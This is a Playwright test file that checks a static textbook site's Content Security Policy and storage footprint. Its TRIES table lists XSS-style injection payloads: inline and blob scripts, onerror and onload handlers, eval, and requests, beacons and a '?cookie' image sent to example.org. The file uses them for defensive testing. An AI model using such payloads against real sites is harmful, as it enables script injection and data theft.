"""The policy of the pages: all that they do works under it, what is injected does not, and little is kept."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from . import hostile
from .conftest import HTML, PAGES
from .figures_support import SETTLED, awake, figure, until
from .hostile_support import FIGURE, GUIDE, KIND, LEDGER, PLAYGROUND, Open, moves, served, unharmed

MOVING = [page for page in PAGES if "l1l2-widget" in (HTML / page).read_text("utf-8")]


# test_pages.py opens every page, both ways; here all that moves is started.
@pytest.mark.parametrize("page", [*MOVING, "search.html?q=lasso"])
def test_a_page_and_all_that_moves_in_it_works_under_its_policy(visit: Open, base: str, page: str) -> None:
    opened = visit(base + page)
    opened.page.evaluate("document.documentElement.classList.add('measured')")
    for place in opened.page.locator("figure.l1l2-widget").all():
        place.scroll_into_view_if_needed()
        place.locator(".l1l2-figure svg").first.wait_for()
    awake(opened.page)
    assert opened.page.locator("[data-unfit]").count() == 0
    unharmed(opened)


#: What an injected line might try, and the directive that refuses it.
TRIES = {
    "an inline script": ("script-src-elem", "add('script', { text: RUN })"),
    "a script from elsewhere": ("script-src-elem", "add('script', { src: 'https://example.org/x.js' })"),
    "a script of data": ("script-src-elem", "add('script', { src: 'data:text/javascript,' + RUN })"),
    "a script of a blob": ("script-src-elem", "add('script', { src: blob(RUN) })"),
    "a module": ("script-src-elem", "add('script', { type: 'module', text: RUN })"),
    "an import": ("script-src-elem", "import('data:text/javascript,' + RUN).catch(() => {})"),
    "a handler of a picture": ("script-src-attr", "body.innerHTML = '<img src=data:, onerror=' + RUN + '>'"),
    "a handler of a drawing": ("script-src-attr", "body.innerHTML = '<svg onload=' + RUN + '></svg>'"),
    "a handler that is set": ("script-src-attr", "add('b', {}).setAttribute('onclick', RUN)"),
    "a link": ("script-src-elem", "add('a', { href: 'javascript:' + RUN }).click()"),
    "a string to evaluate": ("script-src", "try { eval(RUN) } catch {}"),
    "a string for a function": ("script-src", "try { new Function(RUN)() } catch {}"),
    "a string for a timer": ("script-src", "setTimeout(RUN)"),
    "a worker of a blob": ("worker-src", "try { new Worker(blob(RUN)) } catch {}"),
    "a frame": ("frame-src", "add('iframe', { src: 'https://example.org/' })"),
    "an object": ("object-src", "add('object', { data: 'https://example.org/' })"),
    "another base": ("base-uri", "document.head.append(make('base', { href: '//example.org' }))"),
    "a form": (
        "form-action",
        "const form = add('form', { action: 'https://example.org/' }); form.submit()",
    ),
    "a style sheet": ("style-src-elem", "add('style', { textContent: '* { color: red }' })"),
    "a style from elsewhere": ("style-src-elem", "add('link', { rel: 'stylesheet', href: 'https://x.org' })"),
    "a picture": ("img-src", "add('img', { src: 'https://example.org/x.png?cookie' })"),
    "a picture of a style": ("img-src", "add('b', {}).style.background = 'url(https://example.org/x)'"),
    "a request": ("connect-src", "fetch('https://example.org/').catch(() => {})"),
    "a beacon": ("connect-src", "navigator.sendBeacon('https://example.org/')"),
    "a socket": ("connect-src", "try { new WebSocket('wss://example.org/') } catch {}"),
    "a film": ("media-src", "add('video', { src: 'https://example.org/x.mp4' })"),
}  # fmt: skip
_TRY = """async (what) => {
  await new Promise((done) => setTimeout(done)); // what a debugger asks for itself may use eval
  const RUN = "globalThis.ran=1", { body } = document;
  const make = (tag, attributes) => Object.assign(document.createElement(tag), attributes);
  const add = (tag, attributes) => body.appendChild(make(tag, attributes));
  const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
  DO
  for (let k = 0; k < 40 && !globalThis.refused; k += 1) await new Promise((done) => setTimeout(done, 25));
  const found = globalThis.refused ?? [];
  delete globalThis.refused;
  return [...new Set(found)];
}"""


def test_what_is_injected_neither_runs_nor_asks_anyone(visit: Open, base: str) -> None:
    opened = visit(f"{base}chapters/intro.html")
    refused = {what: opened.page.evaluate(_TRY.replace("DO", code)) for what, (_, code) in TRIES.items()}
    assert refused == {what: [directive] for what, (directive, _) in TRIES.items()}
    assert opened.external == []
    assert opened.page.evaluate("globalThis.ran") is None


def test_what_stands_in_a_changed_page_does_not_run(visit: Open, http_base: str, html: Path) -> None:
    text = (html / FIGURE).read_text("utf-8").replace("<h1>", f"{hostile.SCRIPT}{hostile.CLOSING}<h1>", 1)
    opened = visit(
        http_base + FIGURE,
        prepare=lambda page: page.route(f"**/{FIGURE}", lambda route: served(route, text)),
    )
    figure(opened.page, KIND)
    assert opened.page.evaluate("globalThis.ran") is None
    assert len([told for told in opened.complaints if "Content Security Policy" in told]) >= 2


_KEPT = """async () => ({
  local: Object.keys(localStorage).sort(),
  session: Object.keys(sessionStorage),
  cookies: document.cookie,
  databases: (await indexedDB.databases()).map(({ name }) => name),
  caches: "caches" in globalThis ? await caches.keys() : [],
  workers: (await navigator.serviceWorker?.getRegistrations() ?? []).length,
  name: globalThis.name,
})"""


def test_a_reader_who_uses_everything_leaves_progress_and_theme_behind_and_nothing_else(
    visit: Open, http_base: str
) -> None:
    opened = visit(f"{http_base}search.html?q=threshold")
    page = opened.page
    found = page.locator("#search-results li a[href*='04_sparsity']").first
    found.click()
    until(page, "() => CSS.highlights.get('found')?.size > 0")
    moves(figure(page, "path_explorer"))
    page.get_by_role("button", name="Copy a link to this state").click()
    page.locator(".theme-switch-button").first.click()
    page.locator(".primary-toggle").click()
    page.locator(".dropdown-download-buttons > button").click()
    page.keyboard.press("Escape")
    page.get_by_role("button", name=re.compile("^Edit")).first.click()
    page.locator(".l1l2-number input").first.fill("7")
    page.locator(".l1l2-number input").first.press("Enter")
    page.locator(".l1l2-question input[type=radio]").first.click()
    page.locator(".own-mark input").first.check()
    for next_ in (LEDGER, GUIDE, PLAYGROUND, "chapters/map.html", "chapters/pictures.html"):
        page.goto(http_base + next_)
        page.wait_for_timeout(SETTLED / 4)
    assert page.evaluate(_KEPT) == {
        "local": ["l1l2-progress", "mode"],
        "session": [],
        "cookies": "",
        "databases": [],
        "caches": [],
        "workers": 0,
        "name": "",
    }
    assert page.context.cookies() == []
    unharmed(opened)
